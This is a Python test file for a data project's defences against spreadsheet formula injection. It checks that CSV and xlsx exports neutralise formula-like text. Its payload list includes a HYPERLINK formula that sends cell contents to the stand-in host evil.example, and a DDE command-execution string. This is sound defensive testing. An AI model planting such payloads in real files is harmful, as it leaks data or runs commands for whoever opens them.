"""Spreadsheet formula injection: the lake keeps values as they came; exports neutralise
them (a leading apostrophe in CSV, an explicit text cell in xlsx)."""

from __future__ import annotations

import csv
import io
from types import SimpleNamespace

import openpyxl
import pytest

from longshu import exports
from longshu.catalog import excel
from longshu.ingest import load_file
from longshu.lake import tables

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+1", "-2+3", "@SUM(A1:A9)"]
PAYLOADS += ["\t=1+2", "\r=1+2"]


def test_the_lake_stores_formula_like_text_as_it_came(session, loader, target, tmp_path):
    path = tmp_path / "evil.csv"
    with path.open("w", encoding="utf-8", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(["id", "备注"])
        writer.writerows([i, p] for i, p in enumerate(PAYLOADS, start=1))
    load_file(session, loader, target, path)
    data = tables.open_delta(tables.get_table(session, "people")).to_pyarrow_table()
    assert data.sort_by("id").column("备注").to_pylist() == PAYLOADS


@pytest.mark.parametrize("value", PAYLOADS)
def test_csv_exports_neutralise_formula_like_text(value):
    assert exports.neutralise(value) == "'" + value
    out = io.StringIO()
    csv.writer(out).writerow(exports.csv_row(["城关区", value, -5, 3.5, None]))
    cells = next(csv.reader(io.StringIO(out.getvalue())))
    assert cells[1].startswith("'")
    assert cells[0] == "城关区" and cells[2] == "-5"  # numbers and plain text untouched


def test_xlsx_exports_keep_formula_like_text_as_text():
    book = openpyxl.Workbook()
    exports.xlsx_append(book.active, ["区县", *PAYLOADS, -5])
    out = io.BytesIO()
    book.save(out)
    row = next(openpyxl.load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())
    assert [c.data_type for c in row] == ["s"] * (1 + len(PAYLOADS)) + ["n"]
    # shown as stored (XML itself reads a carriage return back as a line feed)
    assert [c.value for c in row[1:-1]] == [p.replace("\r", "\n") for p in PAYLOADS]


def test_the_catalog_export_writes_a_formula_like_description_as_text():
    resource = SimpleNamespace(fields=[])
    for _header, attribute, _vocabulary, multi in excel.RESOURCE_COLUMNS:
        setattr(resource, attribute, [] if multi else "")
    resource.name = "=cmd|' /C calc'!A0"
    book = openpyxl.load_workbook(io.BytesIO(excel._workbook([resource])))
    cells = [c for c in book[excel.RESOURCES][2] if c.value == resource.name]
    assert cells and all(c.data_type == "s" for c in cells)
